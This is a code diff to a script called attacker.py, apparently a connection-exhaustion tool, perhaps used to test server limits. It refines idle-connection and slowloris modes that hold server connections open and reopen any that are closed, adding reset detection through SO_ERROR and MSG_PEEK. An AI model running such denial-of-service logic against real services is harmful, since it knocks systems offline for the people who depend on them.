@@ -5,7 +5,8 @@
   attacker.py MODE HOST PORT SOURCES PER_SOURCE SECONDS [MAX_CONNECTS]
 
 MODE idle: connections that send nothing and never read (they hold a
-record of the echo/discard/chargen services); slowloris: an HTTP request
+record of the echo/discard/chargen services; a close or reset is noticed
+with SO_ERROR and MSG_PEEK); slowloris: an HTTP request
 head sent one byte per second, never finished. SOURCES: comma-separated
 local addresses to connect from; PER_SOURCE connections are kept open from
 each (a connection the server resets or closes is opened again, at most
@@ -59,11 +60,17 @@ def main():
             for sl in slots:
                 if sl["sock"] in r:
                     try:
-                        data = sl["sock"].recv(4096)
+                        # idle: peek only (a chargen sender must see a
+                        # reader that reads nothing); a reset shows in
+                        # SO_ERROR even with data still queued
+                        if mode == "idle" and sl["sock"].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) != 0:
+                            data = b""
+                        else:
+                            data = sl["sock"].recv(4096, socket.MSG_PEEK if mode == "idle" else 0)
                     except OSError:
                         data = b""
                     if mode == "idle" and data:
-                        continue  # data (chargen): not a close
+                        continue  # data waiting (chargen), not a close
                     sl["sock"].close()
                     sl["sock"] = None
                     died += 1
